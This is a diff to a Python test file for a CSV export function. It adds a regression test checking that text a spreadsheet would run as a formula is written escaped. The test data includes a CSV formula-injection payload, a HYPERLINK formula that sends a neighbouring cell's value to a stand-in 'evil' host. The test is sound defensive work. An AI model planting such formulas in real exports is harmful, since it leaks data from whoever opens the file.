@@ -10,7 +10,7 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from featurehealth import config, model, registry, runlog, signals
+from featurehealth import config, display, model, registry, runlog, signals
 
 PARAMS = {
     **config.load_profile("default")["model"],
@@ -630,7 +630,7 @@ def test_write_csv_round_trips_text_with_carriage_returns(tmp_path) -> None:
     """Ids and names come from other teams' files: a bare carriage return in one must not split its row."""
     import csv
 
-    values = ["a\rb", "x\r\ny", "c\nd", 'q"q', "e,f", "=1+1", "plain"]
+    values = ["a\rb", "x\r\ny", "c\nd", 'q"q', "e,f", "plain"]
     frame = pd.DataFrame({"feature_id": values, "risk_probability": [0.1234567] * len(values)})
     path = registry.write_csv(frame, tmp_path / "r.csv")
     with open(path, newline="", encoding="utf-8") as handle:
@@ -640,6 +640,21 @@ def test_write_csv_round_trips_text_with_carriage_returns(tmp_path) -> None:
     assert back["feature_id"].tolist() == values and back["risk_probability"].tolist() == [0.123457] * len(values)
     plain = registry.write_csv(frame.iloc[-1:], tmp_path / "p.csv").read_text(encoding="utf-8")
     assert plain == "feature_id,risk_probability\nplain,0.123457\n"  # ordinary files keep their look
+
+
+def test_write_csv_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(tmp_path) -> None:
+    """A feature named =HYPERLINK("http://evil/?"&B2,"details") in an export became a live link in the
+    stakeholder's spreadsheet, sending the cell beside it away when clicked. Text starting with =, +,
+    -, @, a tab or a carriage return is written after a ' (OWASP's advice), which a spreadsheet shows
+    as text; numbers, negative ones included, are written as before."""
+    names = ['=HYPERLINK("http://evil/?"&B2,"details")', "+1", "-2+3", "@SUM(A1)", "\tx", "'=x", "-", "plain"]
+    frame = pd.DataFrame({"feature_name": names, "change": [-1.5] * len(names), "rank": range(-1, len(names) - 1)})
+    text = registry.write_csv(frame, tmp_path / "r.csv").read_text(encoding="utf-8")
+    assert text.splitlines()[1:4] == ["\"'=HYPERLINK(\"\"http://evil/?\"\"&B2,\"\"details\"\")\",-1.5,-1",
+                                      "'+1,-1.5,0", "'-2+3,-1.5,1"]
+    back = pd.read_csv(tmp_path / "r.csv", dtype={"feature_name": str}, keep_default_na=False)
+    assert [display.csv_text(v) for v in back["feature_name"]] == names
+    assert back["change"].tolist() == [-1.5] * len(names) and back["rank"].iloc[0] == -1
 
 
 def test_write_csv_writes_an_empty_frame_with_date_columns(tmp_path) -> None:
